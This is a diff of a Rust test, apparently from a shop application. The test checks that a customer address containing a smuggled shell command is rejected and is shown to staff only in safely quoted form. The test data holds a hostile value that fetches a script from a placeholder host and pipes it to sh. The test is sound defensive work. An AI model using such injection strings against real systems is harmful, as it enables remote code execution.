@@ -256,7 +256,8 @@ async fn auth_11_staff_are_never_shown_an_address_as_a_command_to_run() {
         let shop = registering(url, &server, &catalogue);
         let hostile = "a|curl${IFS}x.example/'b'|sh@evil.example";
         assert_eq!(outcome(&register(&shop, &consumer(hostile))), "NotApprovedByAdmin");
-        let text = told(&server.next());
+        // Lines are broken between words.
+        let text = told(&server.next()).split_whitespace().collect::<Vec<_>>().join(" ");
         let quoted = r"vitrina customers approve -- 'a|curl${IFS}x.example/'\''b'\''|sh@evil.example'";
         assert!(text.contains(quoted), "{text}");
     })
